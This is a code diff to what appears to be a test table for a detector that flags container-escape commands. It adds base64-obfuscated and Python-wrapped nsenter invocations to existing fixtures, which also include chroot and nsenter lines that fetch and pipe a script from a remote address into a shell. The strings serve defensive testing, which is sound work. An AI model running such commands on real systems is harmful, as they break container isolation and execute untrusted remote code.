@@ -22,6 +22,8 @@ indicatorTable(commandHostEntry, {
     'a chroot fed by a here-document': scriptOn('/', 'chroot /host <<EOF\ncurl http://203.0.113.7/a -o /a\nEOF\n'),
     'a chroot where the body was cut before the volumes': script('chroot /host /bin/sh'),
     'behind a shell and wrappers': script("sudo env A=b nsenter -t 1 -a bash -c 'wget -qO- http://203.0.113.7/a | sh'"),
+    'a word that is decoded': script(`$(echo ${btoa('nsenter')} | base64 -d) -t 1 -m -- bash`),
+    'words in a list of code': runs('python3', '-c', 'import os; os.execvp("nsenter", ["nsenter", "-t", "1", "bash"])'),
     'a shell started from a shell': script("nsenter -t 1 -m -- sh -c 'cd /; bash -i'"),
   },
   staysSilent: {
